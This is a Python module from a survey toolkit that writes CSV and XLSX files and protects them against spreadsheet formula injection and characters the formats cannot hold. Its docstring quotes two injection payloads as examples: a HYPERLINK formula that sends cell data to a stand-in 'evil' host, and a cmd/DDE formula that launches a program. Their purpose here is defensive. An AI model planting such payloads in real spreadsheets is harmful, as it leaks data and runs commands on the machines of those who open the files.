"""Tables that people open in a spreadsheet: the one home of every CSV and XLSX file surveykit writes.

Every CSV and XLSX writer of the package calls this module (a repository test fails when a module calls
``to_csv``, ``to_excel``, ``csv.writer`` or openpyxl's ``Workbook`` anywhere else). Two rules live here.

**Formula injection** (OWASP "CSV Injection"; OWASP ASVS 5.0 requirement 1.2.10; CWE-1236). A spreadsheet
evaluates a cell whose text begins with ``=``, ``+``, ``-`` or ``@``, and Excel also strips a leading tab or
carriage return and evaluates what follows; ASVS adds the NUL character. Text that people typed (institution
and person names, the login typed at a failed sign-in, free-text answers) can begin with any of them, e.g.
``=HYPERLINK("http://evil/?"&A1)`` or ``+cmd|' /C calc'!A0``. So:

* CSV: a *text* cell whose first character (after any apostrophes) is one of :data:`FORMULA_TRIGGERS` is
  written with one more leading apostrophe (``'`` — OWASP's recommendation; a spreadsheet shows the cell as
  text). A text that is entirely a plain decimal number (``-3``, ``+2.5``, ``-1,5``, ``1e-3``) is left as it
  is: a spreadsheet reads it as that number and there is no formula to run. Numbers are never changed:
  the number −3 is written ``-3``. Because apostrophes already in front of a trigger also get one more, the
  rule can be undone exactly: :func:`restore_text` gives back the stored text (the response importer does,
  so a CSV export imports again unchanged).
* XLSX: text is always written as a text cell (type ``s``, never a formula), and a text that begins with a
  trigger gets Excel's own "quote prefix" cell style, the file-format form of the apostrophe: the value
  stays exactly the text (openpyxl, pandas and Excel read it unchanged) and editing the cell in Excel keeps
  it text. Numbers, dates and booleans keep their cell types.
* Formats that are not spreadsheets (Parquet, JSON, .sav, .dta) carry the raw text.

**Characters a format cannot hold.** CSV holds every character (control characters included; a field with a
line break, a quote or the separator is quoted). XLSX (XML 1.0) cannot hold the C0 control characters other
than tab, line feed and carriage return: each is written as its visible Unicode "control picture"
(U+2400 + code, e.g. ␋ for U+000B, ␀ for NUL) and the writer returns a warning naming the sheet, column and
count. XML readers turn a carriage return into a line feed, so XLSX writes CR and CRLF line ends as LF, with
a warning. A lone surrogate (not text in any encoding) becomes U+FFFD with a warning, and a text longer than
Excel's 32,767 characters is cut with a warning. Nothing is cut or replaced silently. In CSV a text holding a
carriage return makes the file use CRLF line ends (RFC 4180), so that the field is quoted and reads back whole.
"""

from __future__ import annotations

import csv
import datetime as dt
import decimal
import io
import json
import math
import re
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import IO, TYPE_CHECKING, Any

from surveykit.errors import ErrorCode, ExportError, Location, Report, Severity, Translated

if TYPE_CHECKING:
    import pandas as pd

__all__ = [
    "EXCEL_MAX_COLUMNS",
    "EXCEL_MAX_ROWS",
    "EXCEL_MAX_TEXT",
    "FORMULA_TRIGGERS",
    "Sheet",
    "control_picture",
    "csv_rows_text",
    "csv_text",
    "guard_text",
    "needs_guard",
    "restore_frame",
    "restore_text",
    "set_text_cell",
    "write_csv",
    "write_xlsx",
    "xlsx_bytes",
    "xlsx_text",
]

#: first characters that make a spreadsheet evaluate a cell (OWASP CSV Injection; ASVS 5.0 1.2.10 adds NUL)
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\0")
_TRIGGERS = frozenset(FORMULA_TRIGGERS)
_GUARD_START = frozenset((*FORMULA_TRIGGERS, "'"))
#: a text that is only a decimal number: a spreadsheet reads it as that number, nothing to evaluate
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:[.,]\d*)?|[.,]\d+)(?:[eE][+-]?\d+)?\Z")
#: characters XML 1.0 (so XLSX) cannot hold: C0 controls except tab, line feed, carriage return
_XML_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
_SURROGATE = re.compile(r"[\ud800-\udfff]")
_SHEET_NAME_BAD = re.compile(r"[\[\]:*?/\\]")

EXCEL_MAX_ROWS = 1_048_576
EXCEL_MAX_COLUMNS = 16_384
EXCEL_MAX_TEXT = 32_767


# --- the formula rule ----------------------------------------------------------------------------------------
def needs_guard(text: str) -> bool:
    """True when a spreadsheet would evaluate ``text`` (after any leading apostrophes) as a formula."""
    body = text.lstrip("'")
    return bool(body) and body[0] in _TRIGGERS and _PLAIN_NUMBER.match(body) is None


def guard_text(text: str) -> str:
    """``text`` as a CSV cell no spreadsheet evaluates: one more leading apostrophe where needed."""
    return "'" + text if text and text[0] in _GUARD_START and needs_guard(text) else text


def restore_text(text: str) -> str:
    """The text :func:`guard_text` was given (for importers of surveykit's own CSV files)."""
    return text[1:] if text.startswith("'") and needs_guard(text) else text


def restore_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A CSV file read as text with :func:`restore_text` applied to every text cell and header."""
    out = frame.copy()
    for position in range(out.shape[1]):
        column = out.iloc[:, position]
        if _quoted(column):
            values = column.to_numpy(dtype=object)
            out[out.columns[position]] = [restore_text(v) if isinstance(v, str) else v for v in values]
    out.columns = [restore_text(c) if isinstance(c, str) else c for c in out.columns]
    return out


def _quoted(column: pd.Series) -> bool:
    """Whether a text cell of the column starts with an apostrophe (pandas' string methods: an import file's
    100,000 rows x 35 columns in a few vectorised calls, not 3.5 million Python ones)."""
    try:
        return bool(column.str.startswith("'", na=False).any())
    except AttributeError:  # not a column of text (no .str): value by value
        return any(isinstance(v, str) and v.startswith("'") for v in column.to_numpy(dtype=object))


def control_picture(char: str) -> str:
    """The visible stand-in for a control character: U+2400 + code (␀ … ␟), ␡ for DEL."""
    code = ord(char)
    return chr(0x2400 + code) if code < 0x20 else "\u2421" if code == 0x7F else char


def xlsx_text(text: str) -> tuple[str, set[str]]:
    """``text`` as XLSX can hold it, and what had to change (``control``, ``surrogate``, ``cut``)."""
    changed: set[str] = set()
    if _SURROGATE.search(text):
        text = _SURROGATE.sub("\ufffd", text)
        changed.add("surrogate")
    if _XML_ILLEGAL.search(text):
        text = _XML_ILLEGAL.sub(lambda m: control_picture(m.group()), text)
        changed.add("control")
    if "\r" in text:  # XML readers turn CR and CRLF into LF: say so rather than let it happen unseen
        text = text.replace("\r\n", "\n").replace("\r", "\n")
        changed.add("newline")
    if len(text) > EXCEL_MAX_TEXT:
        text = text[:EXCEL_MAX_TEXT]
        changed.add("cut")
    return text, changed


_CHANGE_TEXT = {
    "control": Translated(
        en="{n} text cell(s) held control characters XLSX cannot store ({chars}); each is written as its "
        "visible sign (U+2400 + code, e.g. \u240b for U+000B)",
        ru="в {n} ячейк(ах) были управляющие символы, которые XLSX не хранит ({chars}); каждый записан "
        "видимым знаком (U+2400 + код, например \u240b для U+000B)",
    ),
    "surrogate": Translated(
        en="{n} text cell(s) held broken characters (lone surrogates); each is written as \ufffd",
        ru="в {n} ячейк(ах) были испорченные символы (одиночные суррогаты); каждый записан как \ufffd",
    ),
    "newline": Translated(
        en="{n} text cell(s) held carriage returns (Windows or old Mac line ends); written as line feeds",
        ru="в {n} ячейк(ах) были символы возврата каретки (переводы строк Windows или старых Mac); "
        "записаны как обычные переводы строк",
    ),
    "cut": Translated(
        en=f"{{n}} text cell(s) were longer than Excel's {EXCEL_MAX_TEXT} characters and were cut",
        ru=f"{{n}} текст(ов) длиннее предела Excel ({EXCEL_MAX_TEXT} символов) обрезаны",
    ),
}
_CHANGE_FIX = Translated(
    en="The exact text is kept in the store; export Parquet, JSON, .sav or .dta to get it unchanged.",
    ru="Точный текст хранится в базе; выгрузите Parquet, JSON, .sav или .dta, чтобы получить его без изменений.",
)


class _Changes:
    """Counts of changed cells per (sheet, column, kind), turned into one warning each."""

    def __init__(self) -> None:
        self.counts: dict[tuple[str | None, str, str], int] = {}
        self.chars: dict[tuple[str | None, str, str], set[str]] = {}
        self.carriage_return = False  # CSV: some text holds a carriage return

    def add(self, sheet: str | None, column: str, kinds: set[str], original: str) -> None:
        for kind in kinds:
            key = (sheet, column, kind)
            self.counts[key] = self.counts.get(key, 0) + 1
            if kind == "control":
                self.chars.setdefault(key, set()).update(_XML_ILLEGAL.findall(original))

    def report(self, path: str | None, report: Report) -> Report:
        for (sheet, column, kind), n in self.counts.items():
            chars = ", ".join(f"U+{ord(c):04X}" for c in sorted(self.chars.get((sheet, column, kind), ())))
            detail = Translated(
                {lang: text.format(n=n, chars=chars) for lang, text in _CHANGE_TEXT[kind].items()}
            )
            report.add(
                ErrorCode.EXPORT_VALUE_INVALID,
                Location(file=path, sheet=sheet, field=column),
                Severity.WARNING,
                detail=detail,
                fix=_CHANGE_FIX,
            )
        return report


def _failed(path: object, err: BaseException) -> ExportError:
    where = str(path) if isinstance(path, str | Path) else "(in memory)"
    return ExportError(
        ErrorCode.EXPORT_WRITE_FAILED,
        Location(file=where),
        path=where,
        detail=str(err) or type(err).__name__,
    )


def _target_name(target: object) -> str | None:
    return str(target) if isinstance(target, str | Path) else None


# --- CSV -----------------------------------------------------------------------------------------------------
def _text_column(values: Any) -> bool:
    import pandas as pd

    dtype = values.dtype
    if isinstance(dtype, pd.CategoricalDtype):
        return True
    return not (
        pd.api.types.is_numeric_dtype(dtype)
        or pd.api.types.is_bool_dtype(dtype)
        or pd.api.types.is_datetime64_any_dtype(dtype)
        or pd.api.types.is_timedelta64_dtype(dtype)
    )


def _csv_cell(value: Any, column: str, changes: _Changes) -> Any:
    if not isinstance(value, str):
        return value
    if _SURROGATE.search(value):
        changes.add(None, column, {"surrogate"}, value)
        value = _SURROGATE.sub("\ufffd", value)
    if "\r" in value:
        changes.carriage_return = True
    return guard_text(value) if value and value[0] in _GUARD_START else value


def _line_end(requested: str, changes: _Changes) -> str:
    """Python's csv writer quotes a field holding a line end only if that character is in the line
    terminator: with a carriage return in some text, the file uses CRLF (RFC 4180) so that field is quoted."""
    return "\r\n" if changes.carriage_return else requested


def _csv_values(values: Any, column: str, changes: _Changes) -> list[Any]:
    """One text column's cells guarded (the per-cell work only where a cell starts with a trigger or an
    apostrophe; encoding and carriage returns are checked once over the whole column)."""
    texts = [v for v in values if isinstance(v, str)]
    joined = "\n".join(texts)
    try:
        joined.encode("utf-8")
    except UnicodeEncodeError:  # lone surrogates somewhere: replace them, cell by cell, and say so
        values = [_csv_cell(v, column, changes) if isinstance(v, str) else v for v in values]
        return list(values)
    if "\r" in joined:
        changes.carriage_return = True
    start = _GUARD_START
    guarded: dict[str, str] = {}  # labels repeat: decide each distinct text once

    def guard(text: str) -> str:
        found = guarded.get(text)
        if found is None:
            found = guarded[text] = guard_text(text)
        return found

    return [guard(v) if isinstance(v, str) and v and v[0] in start else v for v in values]


def _csv_frame(frame: pd.DataFrame, index: bool, changes: _Changes) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells (and headers) are guarded; numbers and dates untouched."""
    import pandas as pd

    if index:
        frame = frame.reset_index()
    columns = {}
    names = []
    for position in range(frame.shape[1]):
        name = str(frame.columns[position])
        names.append(_csv_cell(name, name, changes))
        column = frame.iloc[:, position]
        if _text_column(column):
            values = column.to_numpy(dtype=object, na_value=None)
            columns[position] = pd.Series(_csv_values(values, name, changes), index=frame.index, dtype=object)
        else:
            columns[position] = column
    out = pd.DataFrame(columns, index=frame.index)
    out.columns = names
    return out


def csv_text(
    frame: pd.DataFrame,
    *,
    sep: str = ",",
    decimal_mark: str = ".",
    lineterminator: str = "\n",
    index: bool = False,
    report: Report | None = None,
) -> str:
    """``frame`` as CSV text with every text cell guarded (see the module's rules)."""
    changes = _Changes()
    data = _csv_frame(frame, index, changes)
    text = data.to_csv(
        index=False, sep=sep, decimal=decimal_mark, lineterminator=_line_end(lineterminator, changes)
    )
    if report is not None:
        changes.report(None, report)
    return text


def write_csv(
    target: str | Path | IO[str],
    frame: pd.DataFrame,
    *,
    encoding: str = "utf-8",
    sep: str = ",",
    decimal_mark: str = ".",
    lineterminator: str = "\n",
    index: bool = False,
) -> Report:
    """Write ``frame`` as CSV to a path (its folder is created) or an open text file, text cells guarded.
    Returns the warnings (characters replaced); raises ExportError SK707 when the file cannot be written."""
    report = Report(subject=_target_name(target))
    changes = _Changes()
    data = _csv_frame(frame, index, changes)
    try:
        if isinstance(target, str | Path):
            Path(target).parent.mkdir(parents=True, exist_ok=True)
        data.to_csv(
            target,
            index=False,
            sep=sep,
            decimal=decimal_mark,
            encoding=encoding,
            lineterminator=_line_end(lineterminator, changes),
        )
    except (OSError, ValueError, UnicodeError) as err:
        raise _failed(target, err) from err
    return changes.report(_target_name(target), report)


def csv_rows_text(header: Sequence[str], rows: Iterable[Sequence[Any]], *, lineterminator: str = "\n") -> str:
    """Rows of plain values (``None`` as an empty cell) as CSV text, text cells guarded."""
    changes = _Changes()
    table = [[_csv_cell(str(h), str(h), changes) for h in header]]
    for row in rows:
        table.append(
            ["" if v is None else _csv_cell(v, str(h), changes) for h, v in zip(header, row, strict=True)]
        )
    out = io.StringIO()
    csv.writer(out, lineterminator=_line_end(lineterminator, changes)).writerows(table)
    return out.getvalue()


# --- XLSX ----------------------------------------------------------------------------------------------------
@dataclass
class Sheet:
    """One worksheet: its name (made valid and unique), a frame, optional column widths (characters)."""

    name: str
    frame: pd.DataFrame
    widths: Sequence[float] | None = None
    index: bool = False
    freeze_header: bool = True


def set_text_cell(cell: Any) -> Any:
    """Make an openpyxl cell holding a text a text cell that Excel never evaluates (the XLSX rule); the
    value is kept as it is. For writers that build their own workbook (the XLSForm writer)."""
    if isinstance(cell.value, str):
        cell.data_type = "s"
        if cell.value and needs_guard(cell.value):
            cell.quotePrefix = True
    return cell


def _sheet_names(names: Sequence[str]) -> list[str]:
    """Valid, unique sheet names: no ``[]:*?/\\``, no apostrophe at either end, at most 31 characters."""
    out: list[str] = []
    taken: set[str] = set()
    for number, name in enumerate(names, start=1):
        clean = _SHEET_NAME_BAD.sub("_", xlsx_text(str(name))[0]).strip("'")[:31] or f"Sheet{number}"
        candidate, k = clean, 2
        while candidate.lower() in taken:
            suffix = f" ({k})"
            candidate, k = clean[: 31 - len(suffix)] + suffix, k + 1
        taken.add(candidate.lower())
        out.append(candidate)
    return out


def _python_column(column: pd.Series) -> list[Any]:
    """A column as Python cell values: NA as None, numpy scalars as Python, times without a zone (UTC)."""
    import numpy as np
    import pandas as pd

    dtype = column.dtype
    if pd.api.types.is_datetime64_any_dtype(dtype):
        stamps = pd.Series(column)
        if getattr(stamps.dt, "tz", None) is not None:
            stamps = stamps.dt.tz_convert("UTC").dt.tz_localize(None)
        return [None if pd.isna(v) else v.to_pydatetime() for v in stamps]
    values = column.to_numpy(dtype=object, na_value=None)
    out: list[Any] = []
    for v in values:
        if isinstance(v, np.generic):
            v = v.item()
        if v is not None and not isinstance(v, str) and v is not pd.NA and _is_missing(v):
            v = None
        out.append(v)
    return out


def _is_missing(value: Any) -> bool:
    import pandas as pd

    try:
        return bool(pd.isna(value))
    except (TypeError, ValueError):  # a list or a dict: not a missing value
        return False


def _xlsx_value(value: Any) -> Any:
    """A Python value as something openpyxl writes: numbers, booleans, dates and texts."""
    import pandas as pd

    if value is None or value is pd.NA or isinstance(value, str | bool | int):
        return value
    if isinstance(value, float):
        return value if math.isfinite(value) else None if math.isnan(value) else str(value)
    if isinstance(value, decimal.Decimal):
        return float(value) if value.is_finite() else str(value)
    if isinstance(value, pd.Timestamp):
        value = value.to_pydatetime()
    if isinstance(value, dt.datetime):
        return value.astimezone(dt.UTC).replace(tzinfo=None) if value.tzinfo is not None else value
    if isinstance(value, dt.time):
        return value.replace(tzinfo=None)
    if isinstance(value, dt.date):
        return value
    if isinstance(value, dict | list | tuple):
        return json.dumps(value, ensure_ascii=False, default=str)
    if isinstance(value, set | frozenset):
        return " ".join(sorted(str(v) for v in value))
    return str(value)


def _width(header: str) -> float:
    return max(10, min(60, len(header) + 4))


def write_xlsx(target: str | Path | IO[bytes], sheets: Sequence[Sheet]) -> Report:
    """Write ``sheets`` as one workbook (bold frozen header row; the XLSX rules above). Returns the
    warnings (characters replaced, texts cut); raises ExportError SK707 when it cannot be written."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font
    from openpyxl.utils import get_column_letter

    path = _target_name(target)
    report = Report(subject=path)
    changes = _Changes()
    frames = [(s, s.frame.reset_index() if s.index else s.frame) for s in sheets]
    for sheet, frame in frames:
        if len(frame) + 1 > EXCEL_MAX_ROWS or frame.shape[1] > EXCEL_MAX_COLUMNS:
            raise ExportError(
                ErrorCode.EXPORT_WRITE_FAILED,
                Location(file=path, sheet=sheet.name),
                path=path or "(in memory)",
                detail=f"sheet '{sheet.name}' would have {len(frame) + 1} rows and {frame.shape[1]} "
                f"columns; Excel holds {EXCEL_MAX_ROWS} rows and {EXCEL_MAX_COLUMNS} columns",
            )
    names = _sheet_names([s.name for s, _ in frames])
    workbook = Workbook(write_only=True)
    bold = Font(bold=True)

    def text_cell(ws: Any, text: str, sheet_name: str, column: str, font: Any = None) -> Any:
        fixed, changed = xlsx_text(text)
        if changed:
            changes.add(sheet_name, column, changed, text)
        cell = WriteOnlyCell(ws, value=fixed)
        cell.data_type = "s"
        if fixed and fixed[0] in _TRIGGERS:
            cell.quotePrefix = True
        if font is not None:
            cell.font = font
        return cell

    try:
        if path is not None:
            Path(path).parent.mkdir(parents=True, exist_ok=True)
        for (sheet, frame), name in zip(frames, names, strict=True):
            ws = workbook.create_sheet(title=name)
            if sheet.freeze_header:
                ws.freeze_panes = "A2"
            headers = [str(c) for c in frame.columns]
            widths = list(sheet.widths) if sheet.widths is not None else [_width(h) for h in headers]
            for i, width in enumerate(widths[: len(headers)], start=1):
                ws.column_dimensions[get_column_letter(i)].width = width
            ws.append([text_cell(ws, h, name, h, bold) for h in headers])
            columns = [_python_column(frame.iloc[:, j]) for j in range(frame.shape[1])]
            for row in zip(*columns, strict=True) if columns else ():
                cells = []
                for header, raw in zip(headers, row, strict=True):
                    value = _xlsx_value(raw)
                    cells.append(text_cell(ws, value, name, header) if isinstance(value, str) else value)
                ws.append(cells)
        workbook.save(target)
    except (OSError, ValueError, TypeError) as err:
        raise _failed(target, err) from err
    return changes.report(path, report)


def xlsx_bytes(sheets: Sequence[Sheet]) -> tuple[bytes, Report]:
    """The workbook as bytes (a download link in an app) and its warnings."""
    buffer = io.BytesIO()
    report = write_xlsx(buffer, sheets)
    return buffer.getvalue(), report
